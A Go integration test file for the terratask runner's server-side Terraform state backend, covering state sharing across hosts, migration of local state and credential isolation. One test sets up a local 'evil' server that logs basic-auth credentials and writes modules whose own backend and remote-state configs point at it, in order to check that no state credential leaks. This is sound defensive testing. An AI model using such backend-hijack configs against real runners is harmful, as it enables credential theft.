package server

import (
	"context"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"go.temporal.io/sdk/log"
	"go.temporal.io/sdk/testsuite"
	"go.uber.org/zap/zaptest"

	"github.com/terratask/terratask/activities"
	"github.com/terratask/terratask/store"
	"github.com/terratask/terratask/task"
)

// The runner's side of the state backend, against this server: real
// activities (activities.Runner) running the real terraform binary, the
// real router over httptest, real SQLite.

// logSink keeps a task's log lines in memory.
type logSink struct {
	mu    sync.Mutex
	lines []string
}

func (l *logSink) AppendLogs(_ context.Context, es []store.LogEntry) error {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, e := range es {
		l.lines = append(l.lines, e.Message)
	}
	return nil
}

func (l *logSink) text() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.lines, "\n")
}

// stateRunner is one runner host of org-a: its own data dir, its org's key.
type stateRunner struct {
	t     *testing.T
	r     *activities.Runner
	logs  *logSink
	suite testsuite.WorkflowTestSuite
}

func newStateRunner(t *testing.T, ts *testServer, host, stateURL string, roots ...string) *stateRunner {
	t.Helper()
	if _, err := exec.LookPath("terraform"); err != nil {
		t.Fatalf("terraform is not on PATH: %v", err)
	}
	catalog, err := filepath.Abs("../activities/testdata")
	if err != nil {
		t.Fatal(err)
	}
	h := &stateRunner{t: t, logs: &logSink{}}
	box, err := ts.opts.Secrets.Org("org-a") // a runner holds its org's key
	if err != nil {
		t.Fatal(err)
	}
	h.r = &activities.Runner{
		Org: "org-a", RunnerID: "test", HostID: host, DataDir: t.TempDir(), ModulesDir: catalog,
		SourceRoots: append([]string{catalog}, roots...), Logs: h.logs, Secrets: box,
		Logger: zaptest.NewLogger(t), HeartbeatEvery: 100 * time.Millisecond, DisableDownload: true, StateURL: stateURL,
	}
	h.suite.SetLogger(log.NewStructuredLogger(slog.New(slog.DiscardHandler)))
	return h
}

// run runs the steps of a task up to plan (and apply when apply is set) on
// the host, and returns the plan.
func (h *stateRunner) run(in activities.StepInput, apply bool) activities.PlanOutput {
	h.t.Helper()
	exec := func(name string, result any) {
		env := h.suite.NewTestActivityEnvironment()
		env.RegisterActivity(h.r)
		val, err := env.ExecuteActivity(name, in)
		if err == nil && result != nil {
			err = val.Get(result)
		}
		if err != nil {
			h.t.Fatalf("%s: %v\nlogs:\n%s", name, err, h.logs.text())
		}
	}
	var inst activities.InstallOutput
	exec("Install", &inst)
	in.TerraformPath = inst.TerraformPath
	exec("Init", nil)
	var plan activities.PlanOutput
	exec("Plan", &plan)
	if apply {
		exec("Apply", nil)
	}
	return plan
}

var runnerTaskSeq struct {
	sync.Mutex
	n int
}

// newRunnerTask indexes a running task of org-a and returns its step input.
func newRunnerTask(t *testing.T, ts *testServer, p task.Params) activities.StepInput {
	t.Helper()
	runnerTaskSeq.Lock()
	runnerTaskSeq.n++
	id := fmt.Sprintf("task-runner-state-%d", runnerTaskSeq.n)
	runnerTaskSeq.Unlock()
	ts.addTask(t, store.Task{ID: id, Org: "org-a", Status: task.StatusRunning})
	sealed, err := ts.opts.Secrets.Seal(task.Secrets{})
	if err != nil {
		t.Fatal(err)
	}
	return activities.StepInput{Task: task.Input{ID: id, Org: "org-a", RunnerID: "test", Params: p, SealedSecrets: sealed}, Run: 1}
}

// TestStateFollowsTheTaskAcrossHosts: with a StateURL, state lives on the
// server, so a task on another host sees what the first one applied, the
// lock is released, and no host keeps state of its own.
func TestStateFollowsTheTaskAcrossHosts(t *testing.T) {
	ts := newTestServer(t, false)
	hs := httptest.NewServer(ts.Handler())
	t.Cleanup(hs.Close)
	a := newStateRunner(t, ts, "host-a", hs.URL)
	b := newStateRunner(t, ts, "host-b", hs.URL)
	params := task.Params{Module: "basic", Workspace: "moving", Variables: map[string]any{"name": "x"}}

	first := newRunnerTask(t, ts, params)
	if plan := a.run(first, true); plan.PlannedChanges != 3 {
		t.Fatalf("first plan %+v", plan)
	}
	if !strings.Contains(a.logs.text(), "state: workspace org-a/moving on the terratask server") {
		t.Fatalf("the task did not use the server's state:\n%s", a.logs.text())
	}
	second := newRunnerTask(t, ts, params)
	if plan := b.run(second, false); plan.HasChanges {
		t.Fatalf("host b plans %+v: it did not read host a's state\n%s", plan, b.logs.text())
	}
	for _, h := range []*stateRunner{a, b} {
		if _, err := os.Stat(filepath.Join(h.r.DataDir, "state")); !os.IsNotExist(err) {
			t.Fatalf("%s keeps local state: %v", h.r.HostID, err)
		}
	}
	vs, total, err := ts.store.ListStateVersions(t.Context(), "org-a", "moving", 10, 0)
	if err != nil || total == 0 || vs[0].TaskID != first.Task.ID {
		t.Fatalf("versions %d %+v %v", total, vs, err)
	}
	if l, err := ts.store.GetStateLock(t.Context(), "org-a", "moving"); err == nil {
		t.Fatalf("lock left behind: %+v", l)
	}
}

// TestOwnBackendGetsNoCredential: neither a module's own http backend (in a
// file named like the runner's generated one) nor a terraform_remote_state
// over http, with or without the runner's backend in use, may receive the
// task's state credential.
func TestOwnBackendGetsNoCredential(t *testing.T) {
	ts := newTestServer(t, false)
	hs := httptest.NewServer(ts.Handler())
	t.Cleanup(hs.Close)

	var mu sync.Mutex
	seen := map[string]string{}
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u, p, _ := r.BasicAuth()
		mu.Lock()
		seen[r.URL.Path] += u + ":" + p + " "
		mu.Unlock()
		if r.URL.Path == "/remote" {
			fmt.Fprint(w, `{"version":4,"serial":1,"lineage":"l","outputs":{},"resources":[]}`)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(evil.Close)

	root := t.TempDir()
	remote := "data \"terraform_remote_state\" \"r\" {\n  backend = \"http\"\n  config = {\n    address = \"" + evil.URL + "/remote\"\n  }\n}\n"
	modules := map[string]map[string]string{
		// Its own backend, in a file named like the runner's.
		"own": {
			"main.tf":                 `resource "terraform_data" "x" {}`,
			"zz_terratask_backend.tf": "terraform {\n  backend \"http\" {\n    address = \"" + evil.URL + "/own\"\n  }\n}\n",
			"remote.tf":               remote,
		},
		// On the runner's backend, reading someone else's state.
		"borrow": {"main.tf": `resource "terraform_data" "x" {}`, "remote.tf": remote},
	}
	h := newStateRunner(t, ts, "host-a", hs.URL, root)
	for _, name := range []string{"own", "borrow"} {
		dir := filepath.Join(root, name)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		for file, body := range modules[name] {
			if err := os.WriteFile(filepath.Join(dir, file), []byte(body), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		h.run(newRunnerTask(t, ts, task.Params{Source: dir, Workspace: "ws-" + name}), true)
	}
	mu.Lock()
	defer mu.Unlock()
	if seen["/own"] == "" || seen["/remote"] == "" {
		t.Fatalf("terraform did not reach the module's own backend and remote state: %v", seen)
	}
	for path, creds := range seen {
		if strings.Trim(creds, ": ") != "" {
			t.Fatalf("%s got credentials %q", path, creds)
		}
	}
	// The borrowing module's own state is on the server.
	if _, err := ts.store.GetState(t.Context(), "org-a", "ws-borrow"); err != nil {
		t.Fatalf("the borrowing module's state: %v", err)
	}
}

// TestLocalStateMovesToTheServer: a runner that kept a workspace's state
// locally and then gets a StateURL moves that state to the server on the
// workspace's next task, instead of planning to create everything again.
func TestLocalStateMovesToTheServer(t *testing.T) {
	ts := newTestServer(t, false)
	hs := httptest.NewServer(ts.Handler())
	t.Cleanup(hs.Close)
	h := newStateRunner(t, ts, "host-a", "")
	params := task.Params{Module: "basic", Workspace: "upgraded"}
	h.run(newRunnerTask(t, ts, params), true)
	local := filepath.Join(h.r.DataDir, "state", "org-a", "upgraded", "terraform.tfstate")
	if _, err := os.Stat(local); err != nil {
		t.Fatalf("no local state after the first task: %v", err)
	}

	h.r.StateURL = hs.URL
	if plan := h.run(newRunnerTask(t, ts, params), false); plan.HasChanges {
		t.Fatalf("after the move the task plans %+v\n%s", plan, h.logs.text())
	}
	if _, err := os.Stat(local); !os.IsNotExist(err) {
		t.Fatalf("the local state is still in place: %v", err)
	}
	if _, err := os.Stat(local + ".moved-to-server"); err != nil {
		t.Fatalf("the moved local state was not kept aside: %v", err)
	}
	if !strings.Contains(h.logs.text(), "moved this workspace's local state from the runner to the server") {
		t.Fatalf("no log line of the move:\n%s", h.logs.text())
	}
	if _, total, err := ts.store.ListStateVersions(t.Context(), "org-a", "upgraded", 10, 0); err != nil || total == 0 {
		t.Fatalf("the server has no version after the move: %d %v", total, err)
	}
}
